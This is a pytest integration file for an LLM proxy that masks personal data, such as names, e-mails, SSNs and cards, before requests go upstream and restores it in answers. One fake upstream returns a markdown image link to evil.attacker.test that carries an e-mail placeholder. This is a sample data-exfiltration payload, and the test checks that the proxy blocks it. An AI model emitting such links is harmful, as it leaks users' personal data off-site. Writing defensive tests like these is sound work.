"""PII masking through the real proxy: placeholders go upstream, the caller's values come back, never mixed up."""

from __future__ import annotations

import asyncio
import json
import urllib.parse

import anthropic
import httpx
import openai
import pytest
from aiohttp import web

from tests.conftest import ANTHROPIC_KEY, AUTH, OPENAI_KEY
from tests.integration.helpers import event_for, wait_for_events
from wardgate.testing import FakeUpstream
from wardgate.testing._server import BackgroundServer

PII_ONLY = {"scanners": {"injection": {"enabled": False}}}  # the classifier is under test elsewhere
NAME, EMAIL = "Maria Gonzalez", "maria.gonzalez@example.com"
PROMPT = f"Please write to {NAME} at {EMAIL} about the overdue invoice."


@pytest.fixture(scope="module")
def proxy(start_proxy, upstream):
    return start_proxy({"upstream": upstream.url, **PII_ONLY})


@pytest.fixture
def client(proxy):
    return openai.OpenAI(base_url=proxy.url + "/v1", api_key=OPENAI_KEY, max_retries=0)


def test_openai_name_and_email_go_upstream_as_placeholders_and_come_back(client, proxy, upstream):
    raw = client.chat.completions.with_raw_response.create(
        model="gpt-4o-mini", messages=[{"role": "user", "content": PROMPT}]
    )
    sent = upstream.received[-1]["messages"][0]["content"]
    assert sent == "Please write to <PERSON_1> at <EMAIL_ADDRESS_1> about the overdue invoice."
    assert raw.parse().choices[0].message.content == PROMPT  # the echo, unmasked for the caller

    request_event = event_for(proxy.audit_file, raw.headers["x-wardgate-decision-id"])
    kinds = sorted(f["kind"] for f in request_event["findings"] if f["family"] == "pii")
    assert kinds == ["pii:EMAIL_ADDRESS", "pii:PERSON"] or kinds == ["pii:EMAIL_ADDRESS", "pii:PERSON", "pii:PERSON"]
    person = next(f for f in request_event["findings"] if f["kind"] == "pii:PERSON")
    assert PROMPT[person["start"] : person["end"]] == NAME  # span and score, never the value
    assert request_event["result"]["mask"] == ["pii:EMAIL_ADDRESS", "pii:PERSON"]
    audit_text = proxy.audit_file.read_text()
    assert NAME not in audit_text
    assert EMAIL not in audit_text


def test_anthropic_messages_are_masked_and_restored(proxy, upstream):
    client = anthropic.Anthropic(base_url=proxy.url, api_key=ANTHROPIC_KEY, max_retries=0)
    reply = client.messages.create(
        model="claude-3-5-haiku-latest", max_tokens=64, messages=[{"role": "user", "content": PROMPT}]
    )
    sent = upstream.received[-1]["messages"][0]["content"]
    assert NAME not in sent
    assert EMAIL not in sent
    assert "<PERSON_1>" in sent
    assert reply.content[0].text == PROMPT


def test_ssn_and_card_are_masked(client, upstream):
    prompt = "My SSN is 536-80-4398 and my card number is 4111 1111 1111 1111, can you check my account?"
    reply = client.chat.completions.create(model="gpt-4o-mini", messages=[{"role": "user", "content": prompt}])
    sent = upstream.received[-1]["messages"][0]["content"]
    assert sent == "My SSN is <US_SSN_1> and my card number is <CREDIT_CARD_1>, can you check my account?"
    assert reply.choices[0].message.content == prompt


def test_the_model_an_unmapped_body_names_is_not_read_as_a_name(proxy, upstream):
    """An outside review: Ollama's /api/generate (no adapter) went upstream as model `<PERSON_1>3`."""
    body = {"model": "llama3", "prompt": "Write to John Smith about the delay.", "stream": False}
    response = httpx.post(proxy.url + "/api/generate", json=body, headers=AUTH, timeout=30)
    assert response.status_code == 200
    assert upstream.received[-1]["model"] == "llama3"
    assert upstream.received[-1]["prompt"] == "Write to <PERSON_1> about the delay."


async def test_concurrent_conversations_never_see_each_others_values(proxy, upstream):
    client = openai.AsyncOpenAI(base_url=proxy.url + "/v1", api_key=OPENAI_KEY, max_retries=0)
    people = ["Maria Gonzalez", "Kenji Watanabe", "Oluwaseun Adeyemi", "Ingrid Johansson", "Priya Raghavan",
              "Tomasz Kowalski", "Fatima Al-Sayed", "Liam O'Connor"]  # fmt: skip
    prompts = [
        f"Please draft a thank-you note to {person} at {person.split()[0].lower()}@example.org." for person in people
    ]

    async def ask(prompt: str) -> str:
        reply = await client.chat.completions.create(
            model="gpt-4o-mini", messages=[{"role": "user", "content": prompt}]
        )
        return reply.choices[0].message.content or ""

    replies = await asyncio.gather(*(ask(prompt) for prompt in prompts * 2))
    assert replies == prompts * 2
    sent = [body["messages"][0]["content"] for body in upstream.received[-len(replies) :]]
    assert all(person not in text for text in sent for person in people)
    await client.close()


def test_placeholders_restore_across_turns_of_a_named_conversation(start_proxy):
    # The model answers about "<PERSON_1>" in a later turn that does not carry the name itself.
    with FakeUpstream(reply="I have sent the note to <PERSON_1>.") as fixed:
        proxy = start_proxy({"upstream": fixed.url, **PII_ONLY})
        client = openai.OpenAI(base_url=proxy.url + "/v1", api_key=OPENAI_KEY, max_retries=0)

        def ask(text: str, conversation: str | None) -> str:
            headers = {"x-wardgate-conversation": conversation} if conversation else {}
            reply = client.chat.completions.create(
                model="gpt-4o-mini", messages=[{"role": "user", "content": text}], extra_headers=headers
            )
            return reply.choices[0].message.content or ""

        assert ask(f"Write a note to {NAME}.", "conv-42") == f"I have sent the note to {NAME}."
        assert ask("Did it go out?", "conv-42") == f"I have sent the note to {NAME}."
        assert "x-wardgate-conversation" not in {key.lower() for key in fixed.headers[-1]}
        # No conversation named, or another caller naming the same id: the placeholder means nothing there.
        assert ask("Did it go out?", None) == "I have sent the note to <PERSON_1>."
        other = anthropic.Anthropic(base_url=proxy.url, api_key=ANTHROPIC_KEY, max_retries=0)
        reply = other.messages.create(
            model="claude-3-5-haiku-latest", max_tokens=64, messages=[{"role": "user", "content": "Did it go out?"}],
            extra_headers={"x-wardgate-conversation": "conv-42"},
        )  # fmt: skip
        assert reply.content[0].text == "I have sent the note to <PERSON_1>."


def test_a_pii_type_the_policy_denies_is_refused_and_audited(start_proxy, upstream, tmp_path):
    from tests.integration.helpers import policy_copy

    policies = policy_copy(tmp_path, pii={"request": {"mask": ["PERSON"], "deny": ["US_SSN"]}})
    proxy = start_proxy({"upstream": upstream.url, **PII_ONLY}, policies=policies)
    client = openai.OpenAI(base_url=proxy.url + "/v1", api_key=OPENAI_KEY, max_retries=0)
    before = len(upstream.received)
    with pytest.raises(openai.PermissionDeniedError) as caught:
        client.chat.completions.create(
            model="gpt-4o-mini", messages=[{"role": "user", "content": "My SSN is 536-80-4398."}]
        )
    assert caught.value.code == "pii_detected"
    assert len(upstream.received) == before
    denied = wait_for_events(proxy.audit_file, lambda e: e["result"]["code"] == "pii_detected")
    assert len(denied) == 1
    assert "536-80-4398" not in json.dumps(denied[0])


class LinkingUpstream(BackgroundServer):
    """A model that answers with the placeholder it was handed, inside an image link to another host."""

    name = "linking-upstream"

    def routes(self, app: web.Application) -> None:
        app.router.add_post("/v1/chat/completions", self._answer)

    async def _answer(self, request: web.Request) -> web.Response:
        content = "Here: ![chart](https://evil.attacker.test/c?d=<EMAIL_ADDRESS_1>)"
        message = {"role": "assistant", "content": content}
        return web.json_response({"id": "c", "object": "chat.completion", "model": "gpt-4o-mini",
                                  "choices": [{"index": 0, "message": message, "finish_reason": "stop"}]})  # fmt: skip


def test_a_restored_value_is_judged_where_it_lands_in_the_answer(start_proxy):
    """Restored, the placeholder in that link would carry the caller's value off-site: the answer is judged as the
    caller will read it, so the link is masked (exfiltration) and the value never leaves in it."""
    with LinkingUpstream() as upstream:
        proxy = start_proxy({"upstream": upstream.url, **PII_ONLY})
        client = openai.OpenAI(base_url=proxy.url + "/v1", api_key=OPENAI_KEY, max_retries=0)
        reply = client.chat.completions.create(model="gpt-4o-mini", messages=[{"role": "user", "content": PROMPT}])
    answer = reply.choices[0].message.content
    assert "evil.attacker.test/c?d=" not in answer
    assert EMAIL not in answer


def test_an_address_inside_a_url_is_masked_too(client, upstream):
    """A URL does not hide the personal data in it: the e-mail in its query goes upstream as a placeholder."""
    prompt = f"Open https://crm.example.org/find?user={EMAIL}&x=1 and summarise it."
    reply = client.chat.completions.create(model="gpt-4o-mini", messages=[{"role": "user", "content": prompt}])
    sent = upstream.received[-1]["messages"][0]["content"]
    assert EMAIL not in sent
    assert "<EMAIL_ADDRESS_1>" in sent
    assert reply.choices[0].message.content == prompt


@pytest.mark.parametrize("name", ["canary.person@example.com.txt", "report_canary.person@example.com.pdf"])
def test_an_address_a_file_is_named_after_is_masked(client, upstream, name):
    """An outside review: an address with a file's extension glued on went upstream as it was (Presidio read the
    extension as the domain's suffix and rejected it), or with only its first word masked."""
    prompt = f"Please rename {name} before Friday."
    reply = client.chat.completions.create(model="gpt-4o-mini", messages=[{"role": "user", "content": prompt}])
    sent = upstream.received[-1]["messages"][0]["content"]
    assert "person@example.com" not in sent
    assert "<EMAIL_ADDRESS_1>" in sent
    assert reply.choices[0].message.content == prompt


def test_query_parameters_are_read_for_patterned_personal_data_only(proxy, upstream):
    """NER reads a query's context-free tokens as places and names (`en-US` → `en-<LOCATION_1>`): masked, they
    change what the upstream is asked. A parameter is read by the patterns (an e-mail address is still masked)."""
    query = f"?locale=en-US&mode=gz_then_zlib&region=Paris&notify={EMAIL}"
    body = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "What is the capital of France?"}]}
    headers = {"authorization": f"Bearer {OPENAI_KEY}"}
    response = httpx.post(proxy.url + "/v1/chat/completions" + query, json=body, headers=headers, timeout=30)
    assert response.status_code == 200, response.text
    sent = urllib.parse.parse_qs(urllib.parse.urlsplit(upstream.paths[-1]).query)
    assert sent["locale"] == ["en-US"]
    assert sent["mode"] == ["gz_then_zlib"]
    assert sent["region"] == ["Paris"]
    assert sent["notify"] == ["<EMAIL_ADDRESS_1>"]


@pytest.mark.parametrize("stream", [False, True], ids=["json", "sse"])
def test_a_lone_surrogate_survives_masking_and_restoring(proxy, upstream, stream):
    """Scanners read it as U+FFFD; the rewritten request and the restored answer keep it, escaped. (The SDKs cannot
    send one: they encode their JSON as UTF-8.)"""
    prompt = f"\udc00 {PROMPT} \ud800"
    body = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": prompt}], "stream": stream}
    headers = {"authorization": f"Bearer {OPENAI_KEY}", "content-type": "application/json"}
    response = httpx.post(proxy.url + "/v1/chat/completions", content=json.dumps(body).encode(), headers=headers)
    if stream:
        events = [json.loads(line[6:]) for line in response.text.split("\n") if line.startswith("data: {")]
        text = "".join(event["choices"][0]["delta"].get("content") or "" for event in events if event["choices"])
    else:
        text = response.json()["choices"][0]["message"]["content"]
    sent = upstream.received[-1]["messages"][0]["content"]
    assert sent == "\udc00 Please write to <PERSON_1> at <EMAIL_ADDRESS_1> about the overdue invoice. \ud800"
    assert text == prompt


def test_personal_data_the_upstream_produces_itself_is_redacted_not_given_a_placeholder(start_proxy, tmp_path):
    """A placeholder means nothing to the client: with no value of the caller's in play, a masked name is redacted."""
    from tests.integration.helpers import policy_copy

    policies = policy_copy(tmp_path, pii={"request": {"mask": ["PERSON"]}, "response": {"mask": ["PERSON"]}})
    with FakeUpstream(reply="I have sent the note to Kenji Watanabe.") as fixed:
        proxy = start_proxy({"upstream": fixed.url, **PII_ONLY}, policies=policies)
        client = openai.OpenAI(base_url=proxy.url + "/v1", api_key=OPENAI_KEY, max_retries=0)
        reply = client.chat.completions.create(
            model="gpt-4o-mini", messages=[{"role": "user", "content": "Did it go out?"}]
        )
    answer = reply.choices[0].message.content or ""
    assert "Kenji Watanabe" not in answer
    assert "<PERSON" not in answer
    assert "REDACTED" in answer


def test_an_address_as_an_object_key_is_not_sent_unread(proxy, upstream):
    """A one-token key was read for secrets only: an e-mail address or a phone number as a key (a tool result's map,
    a function response) reached the provider unmasked, audited as allowed (an outside review). A key cannot be
    rewritten, so one the policy masks refuses the request."""
    before = len(upstream.received)
    for key in ("jane.doe@example.com", "+1-415-555-0134"):
        body = {"model": "gpt-4o-mini", "messages": [
            {"role": "user", "content": "summarise the contacts"},
            {"role": "tool", "tool_call_id": "c1", "content": "see data"}],
            "metadata": {key: "vip"}}  # fmt: skip
        response = httpx.post(proxy.url + "/v1/chat/completions", json=body, headers=AUTH, timeout=30)
        assert response.status_code == 403, response.text
        assert response.json()["error"]["code"] == "mask_unsupported"
    assert len(upstream.received) == before
